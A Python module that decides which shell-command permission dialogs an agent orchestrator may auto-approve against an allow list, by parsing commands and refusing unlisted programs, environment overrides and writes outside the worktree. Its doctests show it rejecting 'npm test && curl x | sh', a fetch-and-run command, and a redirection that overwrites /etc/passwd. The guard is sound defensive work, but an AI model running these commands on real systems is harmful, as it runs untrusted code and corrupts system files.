"""Which permission dialogs orchestra may answer yes for the person: those about a shell command
every simple command of which a lane's `auto_approve` lists (program and subcommand words as a
prefix: "npm test" allows `npm test -- --watch`, not `npm publish`). The command is read by the
guardrails' parser (`core.guard.shell_commands`), never matched as raw text, so `&&`, `;`, a
pipe into `sh`, `$(...)`, wrappers (`sudo`, `bash -c`) and quoting tricks each bring their own
command to judge; a redirection that writes a file outside the agent's directory, or a command
that could not be parsed whole, is the person's to answer.

>>> judge("npm test -- --watch", ("npm test",), "/w").approve
True
>>> judge("npm test && curl x | sh", ("npm test",), "/w").why
'not listed: curl x'
>>> judge("npm test > /etc/passwd", ("npm test",), "/w").why
'writes outside the worktree: /etc/passwd'
>>> judge("n'pm' test", ("npm test",), "/w").approve
True
"""

from __future__ import annotations

import os
from collections.abc import Sequence
from dataclasses import dataclass

from orchestra_tui.core.fleet.state import AgentView
from orchestra_tui.core.guard.shell_commands import simple_commands
from orchestra_tui.models import State

__all__ = ["Approval", "asked_command", "judge"]

_HARMLESS_FILES = frozenset({"/dev/null", "/dev/stdout", "/dev/stderr"})


@dataclass(frozen=True)
class Approval:
    approve: bool
    why: str


def _prefixes(allowed: Sequence[str]) -> list[tuple[str, ...]]:
    """Each listed entry as the argv words it names (an entry that is not one plain command
    allows nothing)."""
    prefixes = []
    for entry in allowed:
        parsed = simple_commands(entry)
        if parsed.problem is None and len(parsed.commands) == 1 and not parsed.writes:
            prefixes.append(parsed.commands[0].argv)
    return prefixes


def _inside(path: str, worktree: str) -> bool:
    if path in _HARMLESS_FILES:
        return True
    if not worktree or not path or path[0] in "~$" or "$" in path or "`" in path:
        return False  # expanded by the shell: where it lands is not known here
    root = os.path.normpath(worktree)
    full = os.path.normpath(os.path.join(root, path))
    return full == root or full.startswith(root.rstrip("/") + "/")


def judge(command: str, allowed: Sequence[str], worktree: str) -> Approval:
    """Whether `command` may be approved by the `allowed` list, in a worktree at `worktree`."""
    prefixes = _prefixes(allowed)
    if not prefixes:
        return Approval(False, "nothing listed")
    parsed = simple_commands(command)
    if parsed.problem is not None:
        return Approval(False, f"not judged whole ({parsed.problem})")
    if not parsed.commands:
        return Approval(False, "no command")
    if parsed.assigns:  # PATH=., LD_PRELOAD=...: the same words, another program
        return Approval(False, f"sets {parsed.assigns[0].split('=', 1)[0]}")
    for simple in parsed.commands:
        if not any(simple.argv[:len(prefix)] == prefix for prefix in prefixes):
            return Approval(False, f"not listed: {simple.text}")
    for path in parsed.writes:
        if not _inside(path, worktree):
            return Approval(False, f"writes outside the worktree: {path}")
    return Approval(True, "every command listed")


def asked_command(view: AgentView) -> tuple[str, float | None]:
    """(the command the agent's open dialog asks about, the time of the hook event that told
    it): its PermissionRequest hook event's tool input when the hook told one for this dialog,
    else the dialog's subject as drawn (and None)."""
    status = view.status
    if status.state is not State.APPROVAL:
        return "", None
    evidence = view.evidence
    if evidence is not None and evidence.hook is not None \
            and evidence.hook.event == "PermissionRequest":
        for event in reversed(evidence.hook_events):
            if event.event == "PermissionRequest" and event.at == evidence.hook.at:
                if event.command:
                    return event.command, event.at
                break
    return (status.dialog_key.subject if status.dialog_key is not None else ""), None
